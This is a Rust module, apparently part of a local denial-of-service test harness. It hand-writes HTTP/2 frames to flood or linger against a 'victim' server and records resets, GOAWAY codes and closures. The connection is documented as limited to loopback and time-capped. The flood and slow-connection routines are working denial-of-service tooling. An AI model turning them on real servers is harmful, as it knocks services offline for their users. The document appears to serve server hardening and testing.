//! Attacks in HTTP/2 (RFC 9113): frames written by hand, with prior knowledge.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::Instant;

use super::{ATTACK_MAX, From, connect};

/// What opens every connection (RFC 9113, 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// A frame's head, in bytes.
const HEAD_BYTES: usize = 9;
/// A frame's payload that every peer takes, in bytes.
const PAYLOAD_BYTES_MAX: usize = 16 << 10;

/// A frame's type (RFC 9113, 6).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[repr(u8)]
#[expect(missing_docs, reason = "the standard's own names")]
pub enum Kind {
    Data = 0,
    Headers = 1,
    Priority = 2,
    ResetStream = 3,
    Settings = 4,
    PushPromise = 5,
    Ping = 6,
    GoAway = 7,
    WindowUpdate = 8,
    Continuation = 9,
}

/// A frame's flags.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Flags(pub u8);

impl Flags {
    /// None.
    pub const NONE: Self = Self(0);
    /// The stream's last frame from this side, or an acknowledgement.
    pub const END_STREAM: Self = Self(1);
    /// The field block ends here.
    pub const END_HEADERS: Self = Self(4);
    /// A whole request without a body.
    pub const END: Self = Self(5);
}

/// Frames to be sent.
#[derive(Clone, Debug, Default)]
pub struct Frames(Vec<u8>);

impl Frames {
    /// One frame. Its payload is cut at 16 KiB.
    #[must_use]
    pub fn frame(mut self, kind: Kind, flags: Flags, stream: u32, payload: &[u8]) -> Self {
        let payload = &payload[..payload.len().min(PAYLOAD_BYTES_MAX)];
        let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
        self.0.extend_from_slice(&length[1..]);
        self.0.extend_from_slice(&[kind as u8, flags.0]);
        self.0.extend_from_slice(&stream.to_be_bytes());
        self.0.extend_from_slice(payload);
        self
    }

    /// A frame without flags whose payload is one number of 32 bits.
    #[must_use]
    pub fn number(self, kind: Kind, stream: u32, number: u32) -> Self {
        self.frame(kind, Flags::NONE, stream, &number.to_be_bytes())
    }

    /// The bytes.
    #[must_use]
    pub fn bytes(&self) -> &[u8] {
        &self.0
    }
}

/// A request's field block: literals without indexing (RFC 7541, 6.2.2).
#[must_use]
pub fn request_block(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        for text in [name, value] {
            string(&mut block, text.as_bytes());
        }
    }
    block
}

/// A string without Huffman's code (RFC 7541, 5.1 and 5.2).
fn string(block: &mut Vec<u8>, text: &[u8]) {
    const PREFIX_MAX: usize = 0x7f;
    let mut left = text.len();
    if left < PREFIX_MAX {
        block.push(u8::try_from(left).unwrap_or(0));
    } else {
        block.push(0x7f);
        left -= PREFIX_MAX;
        while left >= 0x80 {
            block.push(u8::try_from(left & 0x7f).unwrap_or(0) | 0x80);
            left >>= 7;
        }
        block.push(u8::try_from(left).unwrap_or(0));
    }
    block.extend_from_slice(text);
}

/// What the victim sent.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Seen {
    /// Heads of answers.
    pub heads: u64,
    /// Bytes of answers' bodies.
    pub data_bytes: u64,
    /// Streams that it reset.
    pub resets: u64,
    /// Acknowledgements of PING and SETTINGS.
    pub acknowledged: u64,
    /// The code of its GOAWAY: 11 is `ENHANCE_YOUR_CALM`.
    pub went_away: Option<u32>,
    /// Whether it closed the connection.
    pub closed: bool,
    /// What was sent of the attack, in bytes.
    pub sent_bytes: u64,
    /// From the attack's first byte to its end.
    pub after: Duration,
}

/// One connection.
#[derive(Debug)]
pub struct Http2 {
    stream: TcpStream,
    unread: Vec<u8>,
    seen: Seen,
    start: Instant,
}

impl Http2 {
    /// Opens a connection to `victim` with `settings`: pairs of identifier and value.
    ///
    /// # Errors
    /// There is none, or `victim` is not on loopback.
    pub async fn open(victim: SocketAddr, settings: &[(u16, u32)]) -> io::Result<Self> {
        let mut stream = connect(victim, From::Anywhere).await?;
        let mut payload = Vec::new();
        for (identifier, value) in settings {
            payload.extend_from_slice(&identifier.to_be_bytes());
            payload.extend_from_slice(&value.to_be_bytes());
        }
        let hello = Frames(PREFACE.to_vec()).frame(Kind::Settings, Flags::NONE, 0, &payload);
        stream.write_all(hello.bytes()).await?;
        Ok(Self { stream, unread: Vec::new(), seen: Seen::default(), start: Instant::now() })
    }

    /// Sends `rounds` pieces as `piece` makes them, reading all the while,
    /// until the victim closes or `limit` is over; then listens until then.
    pub async fn flood(
        self,
        rounds: u32,
        mut piece: impl FnMut(u32) -> Frames,
        limit: Duration,
    ) -> Seen {
        let Self { mut stream, mut unread, mut seen, start } = self;
        let limit = limit.min(ATTACK_MAX);
        let (mut reader, mut writer) = stream.split();
        let mut sent_bytes = 0;
        let write = async {
            for round in 0..rounds {
                let frames = piece(round);
                if writer.write_all(frames.bytes()).await.is_err() {
                    break;
                }
                sent_bytes += frames.bytes().len() as u64;
            }
            std::future::pending::<()>().await;
        };
        let mut buffer = vec![0; 64 << 10];
        let read = async {
            loop {
                match reader.read(&mut buffer).await {
                    Ok(0) | Err(_) => {
                        seen.closed = true;
                        return;
                    }
                    Ok(count) => {
                        // A flooder answers no PING.
                        let _ = take(&mut unread, &buffer[..count], &mut seen);
                    }
                }
            }
        };
        // A write that fails is followed by a read that says why, so reading ends it.
        let _ = tokio::time::timeout(limit, async {
            tokio::select! {
                () = read => {}
                () = write => {}
            }
        })
        .await;
        seen.sent_bytes = sent_bytes;
        seen.after = start.elapsed();
        seen
    }

    /// Sends `frames`, then acknowledges PINGs like a living peer until the
    /// victim resets a stream or closes, or `limit` is over.
    ///
    /// # Errors
    /// The frames could not be sent.
    pub async fn linger(mut self, frames: &Frames, limit: Duration) -> io::Result<Seen> {
        self.stream.write_all(frames.bytes()).await?;
        let mut buffer = vec![0; 64 << 10];
        while self.seen.resets == 0 {
            let left = limit.min(ATTACK_MAX).saturating_sub(self.start.elapsed());
            match tokio::time::timeout(left, self.stream.read(&mut buffer)).await {
                Ok(Ok(0) | Err(_)) => self.seen.closed = true,
                Ok(Ok(count)) => {
                    let pings = take(&mut self.unread, &buffer[..count], &mut self.seen);
                    for _ in 0..pings {
                        let pong = Frames::default().frame(Kind::Ping, Flags(1), 0, &[0; 8]);
                        let _ = self.stream.write_all(pong.bytes()).await;
                    }
                    continue;
                }
                Err(_) => {}
            }
            break;
        }
        self.seen.after = self.start.elapsed();
        Ok(self.seen)
    }
}

/// Reads the whole frames in `unread` and `bytes` into `seen`; PINGs to be answered.
fn take(unread: &mut Vec<u8>, bytes: &[u8], seen: &mut Seen) -> u32 {
    unread.extend_from_slice(bytes);
    let (mut at, mut pings) = (0, 0);
    while let Some(head) = unread.get(at..at + HEAD_BYTES) {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let (kind, flags) = (head[3], head[4]);
        let Some(payload) = unread.get(at + HEAD_BYTES..at + HEAD_BYTES + length) else { break };
        match kind {
            0 => seen.data_bytes += length as u64,
            1 => seen.heads += 1,
            3 => seen.resets += 1,
            4 | 6 if flags & 1 == 1 => seen.acknowledged += 1,
            6 => pings += 1,
            7 => {
                let code = payload.get(4..8).and_then(|code| code.try_into().ok());
                seen.went_away = code.map(u32::from_be_bytes);
            }
            _ => {}
        }
        at += HEAD_BYTES + length;
    }
    unread.drain(..at);
    pings
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_read_as_they_are_written_in_any_pieces() {
        let frames = Frames::default()
            .frame(Kind::Headers, Flags::END, 1, &request_block(&[(":status", "200")]))
            .frame(Kind::Data, Flags::NONE, 1, &[7; 300])
            .number(Kind::ResetStream, 1, 8)
            .frame(Kind::Ping, Flags(1), 0, &[0; 8])
            .frame(Kind::GoAway, Flags::NONE, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
        for step in [1, 5, 1_000] {
            let (mut unread, mut seen) = (Vec::new(), Seen::default());
            for piece in frames.bytes().chunks(step) {
                assert_eq!(take(&mut unread, piece, &mut seen), 0);
            }
            assert_eq!(
                (seen.heads, seen.data_bytes, seen.resets, seen.acknowledged),
                (1, 300, 1, 1)
            );
            assert_eq!(seen.went_away, Some(11));
        }
    }

    #[test]
    fn a_long_string_has_its_length_in_several_bytes() {
        let block = request_block(&[("a", &"b".repeat(127 + 300))]);
        assert_eq!(&block[..3], &[0, 1, b'a']);
        assert_eq!(&block[3..6], &[0x7f, 0x80 | 44, 2]);
        assert_eq!(block.len(), 6 + 427);
    }
}
